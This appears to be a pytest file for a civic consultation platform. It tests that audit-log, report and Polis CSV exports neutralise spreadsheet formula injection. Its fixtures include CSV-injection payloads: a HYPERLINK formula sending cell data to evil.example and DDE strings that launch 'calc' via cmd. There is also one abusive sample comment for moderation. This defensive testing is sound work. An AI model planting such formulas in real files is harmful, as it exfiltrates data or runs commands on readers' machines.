"""CSV exports cannot attack their reader: a cell a spreadsheet would run as a formula is
neutralised, in the audit log's CSV and in every table of a report (participants write views,
names, appeal statements and notes)."""

import csv
import io

import pytest

from agora.extensions import db
from agora.models import Appeal, Consultation
from agora.services import csvfiles
from agora.services.reporting import reports
from tests.conftest import civic_statements, csrf_from, login

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1 after spaces",
    "\uff1d1+1 full-width",
]
TRIGGERS = tuple("=+-@\t\r\uff1d")


def _dangerous(cell: str) -> bool:
    return cell.startswith(TRIGGERS) or cell.lstrip(" \n").startswith(TRIGGERS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_could_start_a_formula_is_read_as_text(payload):
    cell = csvfiles.safe_cell(payload)
    written = payload.replace("\r", "\n")  # a bare CR would start a new row in a spreadsheet
    assert cell == "'" + written and csvfiles.restore_cell(cell) == written


def test_a_carriage_return_inside_a_cell_cannot_start_a_row_of_its_own():
    buffer = io.StringIO()
    csvfiles.writer(buffer, lineterminator="\n").writerow(
        ["view", 'harmless\r=HYPERLINK("http://evil.example")', "a\r\nb"]
    )
    assert "\r" not in buffer.getvalue()
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == [
        "view",
        'harmless\n=HYPERLINK("http://evil.example")',
        "a\nb",
    ]


def test_ordinary_cells_and_numbers_are_unchanged():
    for value in ("We need water.", "", "2026-12-01T10:00:00Z", "l'eau", 3, -0.25, None, True):
        assert csvfiles.safe_cell(value) == value
        if isinstance(value, str):
            assert csvfiles.restore_cell(value) == value


def test_the_audit_csv_neutralises_what_participants_and_moderators_wrote(app, client, make):
    cid = make.consultation()
    make.user(email="admin@example.org", role="admin")
    make.user(email="mod@example.org", role="moderator", name="@moderator")
    author = make.user(email="author@example.org", name="=cmd|' /C calc'!A0")
    sid = make.submission(cid, author, "You are all worthless idiots and stupid bitches, shut up")
    login(client, "mod@example.org")
    client.post(
        f"/moderation/items/{sid}/decide",
        data={"action": "hide", "reason": "abuse", "note": PAYLOADS[1], "csrf_token": csrf_from(client, "/")},
    )
    client.post("/account/logout", data={"csrf_token": csrf_from(client, "/")})
    login(client, "author@example.org")
    assert (
        client.post(
            f"/account/views/{sid}/appeal", data={"statement": PAYLOADS[0], "csrf_token": csrf_from(client, "/")}
        ).status_code
        == 302
    )
    with app.app_context():
        assert db.session.query(Appeal).count() == 1
    client.post("/account/logout", data={"csrf_token": csrf_from(client, "/")})

    login(client, "admin@example.org")
    rows = list(csv.DictReader(io.StringIO(client.get("/admin/audit.csv").get_data(as_text=True))))
    cells = [value for row in rows for value in row.values()]
    assert (
        "'" + PAYLOADS[0] in cells and "'" + PAYLOADS[1] in cells and "'@moderator" in cells
    )  # the statement, the note, a name
    assert not [cell for cell in cells if _dangerous(cell)]

    exported = app.test_cli_runner().invoke(
        args=["agora", "moderation", "export-audit", str(app.instance_path) + "/audit-test.csv"]
    )
    assert exported.exit_code == 0, exported.output
    with open(str(app.instance_path) + "/audit-test.csv", encoding="utf-8", newline="") as handle:
        assert not [cell for row in csv.reader(handle) for cell in row if _dangerous(cell)]


def test_every_report_table_neutralises_its_cells(app, make):
    cid = make.consultation("Water for all")
    texts = civic_statements(4)
    for text in texts:
        make.submission(cid, make.user(constituency="ngo", country="KE"), text)
    with app.app_context():
        db.session.get(Consultation, cid).status = "closed"
        db.session.commit()
        content = reports.build(cid)
    payloads = iter(PAYLOADS * 50)

    def poison(value):  # every text a participant or the data could put in a cell
        if isinstance(value, dict):
            return {
                k: (next(payloads) if k in ("text", "label", "key") and isinstance(v, str) else poison(v))
                for k, v in value.items()
            }
        if isinstance(value, list):
            return [poison(v) for v in value]
        return value

    content["participation"] = poison(content["participation"])
    content["themes"]["items"] = poison(content["themes"]["items"])
    for theme in content["themes"]["items"]:
        theme["terms"] = [PAYLOADS[0], *theme["terms"]]
    statement = {"submission_id": 1, "text": PAYLOADS[2]}
    for kind in ("consensus", "divisive", "consensus_across_constituencies", "consensus_across_regions"):
        content["opinions"][kind] = [statement]
    content["opinions"]["groups"] = [
        {
            "id": 0,
            "size": 1,
            "constituency": [{"key": PAYLOADS[3], "label": PAYLOADS[3], "count": 1, "share": 1.0}],
            "representative": [statement],
        }
    ]
    tables = reports.csv_tables(content)
    assert "statements.csv" in tables and "themes.csv" in tables
    seen = 0
    for name, text in tables.items():
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not _dangerous(cell), (name, cell)
                seen += cell.startswith("'")
    assert seen >= 10


def test_the_polis_export_neutralises_its_cells_and_reads_them_back_as_written(app, make, tmp_path):
    from agora.services.participation import imports

    cid = make.consultation("Water for all")
    text = '=HYPERLINK("http://evil.example") is what I would like to see on every water bill.'
    make.submission(cid, make.user(), text)
    with app.app_context():
        imports.export_polis(cid, tmp_path)
    with (tmp_path / "comments.csv").open(encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert "'" + text in cells and not [cell for cell in cells if _dangerous(cell)]
    assert [row["comment-body"] for row in imports._read_csv(tmp_path / "comments.csv")] == [text]
